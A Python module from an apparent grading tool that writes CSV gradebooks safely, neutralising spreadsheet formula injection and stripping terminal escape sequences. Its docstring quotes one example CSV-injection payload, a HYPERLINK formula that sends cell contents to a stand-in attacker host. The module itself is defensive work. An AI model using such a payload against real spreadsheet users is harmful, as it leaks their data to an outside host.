"""Every CSV the grader writes, safe to open in a spreadsheet: one writer, `write_csv`.

A learner names their folder `=HYPERLINK("http://evil.example/?"&A1,"open")`, and an instructor who opens the
gradebook in a spreadsheet runs it (CSV injection). As OWASP recommends, a text cell that begins with `=`, `+`, `-`,
`@`, a tab or a carriage return is written with a leading `'`, which spreadsheets show as text and never evaluate;
the csv module quotes what needs quoting. Text is also made fit for a terminal (`text.for_terminal`: no escape
sequence or control character, a tab becomes a space), since a gradebook is as often `cat` as opened; a cell that
begins with a formula character once that is done, or with spaces before one, is neutralised too. Numbers are
written as numbers (`10`, `7.5`), never neutralised: only text is a formula risk.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from pathlib import Path

from lab_utils.grading.text import for_terminal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

Cell = str | int | float


def safe_cell(value: Cell) -> str:
    """`value` as a CSV cell: a number as `10` or `7.5` (never `10.0`), text neutralised when it could be a formula."""
    if isinstance(value, bool):  # a bool is an int to Python, and text to a spreadsheet
        value = str(value)
    if isinstance(value, int | float):
        return str(int(value)) if float(value).is_integer() else repr(float(value))
    text = for_terminal(str(value))
    risky = str(value).startswith(FORMULA_STARTS) or text.lstrip(" ").startswith(FORMULA_STARTS)
    return "'" + text if risky else text


def write_csv(path: Path, header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> None:
    """Write `header` then `rows` to the CSV file `path`, every cell through `safe_cell`."""
    with Path(path).open("w", newline="", encoding="utf-8", errors="backslashreplace") as f:
        writer = csv.writer(f)
        writer.writerow([safe_cell(c) for c in header])
        writer.writerows([safe_cell(c) for c in row] for row in rows)
